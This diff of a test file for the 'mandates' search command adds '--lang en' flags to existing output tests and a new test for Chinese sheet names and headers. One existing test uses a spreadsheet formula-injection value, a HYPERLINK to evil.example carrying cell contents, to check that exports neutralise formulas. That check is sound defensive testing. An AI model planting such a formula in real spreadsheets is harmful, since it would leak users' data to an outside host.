@@ -46,7 +46,7 @@ units:
 describe('mandates search: files', () => {
   it('xlsx: a hits sheet (frozen header, filter, spans as rich text) and a query sheet; exit 0', async () => {
     const d = tempDir();
-    const r = await run(['search', '许可证', '--all', '-o', 'hits.xlsx'], { cwd: d });
+    const r = await run(['search', '许可证', '--all', '-o', 'hits.xlsx', '--lang', 'en'], { cwd: d });
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toBe('');
     expect(r.stderr).toBe('mandates: wrote hits.xlsx (xlsx): 6 hits\n');
@@ -98,7 +98,7 @@ describe('mandates search: files', () => {
   });
 
   it('md: a heading with the query, a metadata table, and the hits with the spans in bold', async () => {
-    const r = await run(['search', '许可证', '--unit', 'pexkzswj', '--limit', '2', '--format', 'md']);
+    const r = await run(['search', '许可证', '--unit', 'pexkzswj', '--limit', '2', '--format', 'md', '--lang', 'en']);
     expect(r.code).toBe(0);
     const lines = r.stdout.split('\n');
     expect(lines[0]).toBe('# search: 许可证');
@@ -116,7 +116,7 @@ describe('mandates search: files', () => {
     expect((await run(['search', '许可证', '--corpus', 'inj.yaml', '-o', 'h.csv'], { cwd: d })).code).toBe(0);
     const rows = parseCsv(readFileSync(join(d, 'h.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
     expect(rows.map((r) => r.text)).toContain('\'=HYPERLINK("http://evil.example/?d="&A1,"许可证")');
-    expect((await run(['search', '许可证', '--corpus', 'inj.yaml', '-o', 'h.xlsx'], { cwd: d })).code).toBe(0);
+    expect((await run(['search', '许可证', '--corpus', 'inj.yaml', '-o', 'h.xlsx', '--lang', 'en'], { cwd: d })).code).toBe(0);
     const buffer = readFileSync(join(d, 'h.xlsx'));
     const sheet = zipEntry(buffer, 'xl/worksheets/sheet1.xml')!;
     expect(sheet).not.toContain('<f>');
@@ -132,7 +132,7 @@ describe('mandates search: files', () => {
   it('still writes the file when nothing matches (the query, no rows) and exits 1', async () => {
     const d = tempDir();
     for (const name of ['none.xlsx', 'none.csv', 'none.md', 'none.json']) {
-      const r = await run(['search', '航天器', '--exact', '-o', name], { cwd: d });
+      const r = await run(['search', '航天器', '--exact', '-o', name, '--lang', 'en'], { cwd: d });
       expect(r.code, name).toBe(1);
       expect(r.stderr).toMatch(new RegExp(`^mandates: wrote ${name} \\(\\w+\\): 0 hits\\n$`));
     }
@@ -158,10 +158,10 @@ describe('mandates search: files', () => {
     expect(readFileSync(join(d, 'b.out'), 'utf8')).toBe(expected);
     expect(readFileSync(join(d, 'a.json'), 'utf8')).toBe((await run(['search', '管理', '--format', 'json'])).stdout);
     for (const [name, start] of [['a.md', '# search: 管理'], ['a.markdown', '# search: 管理'], ['a.csv', '"rank"']] as const) {
-      expect((await run(['search', '管理', '-o', name], { cwd: d })).code).toBe(0);
+      expect((await run(['search', '管理', '-o', name, '--lang', 'en'], { cwd: d })).code).toBe(0);
       expect(readFileSync(join(d, name), 'utf8').startsWith(start)).toBe(true);
     }
-    expect((await run(['search', '管理', '-o', 'A.XLSX'], { cwd: d })).code).toBe(0);
+    expect((await run(['search', '管理', '-o', 'A.XLSX', '--lang', 'en'], { cwd: d })).code).toBe(0);
     expect((await readXlsx(join(d, 'A.XLSX'))).getWorksheet('hits')!.rowCount).toBe(17);
     expect(readdirSync(d).filter((f) => f.startsWith('.'))).toEqual([]);
   });
@@ -205,6 +205,21 @@ describe('mandates search: files', () => {
     // -o - without a format is the ordinary output.
     expect((await run(['search', '管理', '-o', '-'])).stdout).toBe((await run(['search', '管理'])).stdout);
     expect(existsSync(join(d, '-'))).toBe(false);
+  });
+});
+
+describe('search files in Chinese (the default)', () => {
+  it('the workbook and the report label sheets, headers, kinds and the query in Chinese', async () => {
+    const d = tempDir();
+    expect((await run(['search', '许可证', '--all', '-o', 'hits.xlsx'], { cwd: d })).code).toBe(0);
+    const hits = await readXlsx(join(d, 'hits.xlsx'));
+    expect(hits.worksheets.map((w) => w.name)).toEqual(['结果', '检索']);
+    expect(hits.title).toBe('检索：许可证');
+    expect(rowValues(hits.getWorksheet('结果')!, 1)).toEqual(['排名', '单位', '单位名称', '文件', '职能ID', '序号', '匹配', '得分', '文本', '匹配文字']);
+    expect(rowValues(hits.getWorksheet('结果')!, 2)[6]).toBe('短语');
+    expect(details(hits.getWorksheet('检索')!)).toMatchObject({ 检索词: '许可证', 方式: '智能', 命中: 6, 显示: 6 });
+    const md = (await run(['search', '航天器', '--exact', '--format', 'md'])).stdout;
+    expect(md).toMatch(/^# 检索：航天器\n\n\| 方式 \| 命中 \| 显示 \| 日期 \|\n[^\n]+\n\| 精确 \| 0 \| 0 \| [^\n]+\n\n没有匹配的职能。\n$/);
   });
 });
 
